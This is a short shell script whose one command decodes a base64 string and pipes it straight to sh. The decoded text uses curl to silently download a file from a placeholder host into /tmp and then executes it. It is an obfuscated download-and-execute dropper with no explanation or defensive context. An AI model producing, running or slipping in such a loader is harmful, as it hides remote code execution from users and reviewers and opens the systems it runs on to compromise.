#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EuMSAtbyAvdG1wL2EgJiYgc2ggL3RtcC9h | base64 -d | sh
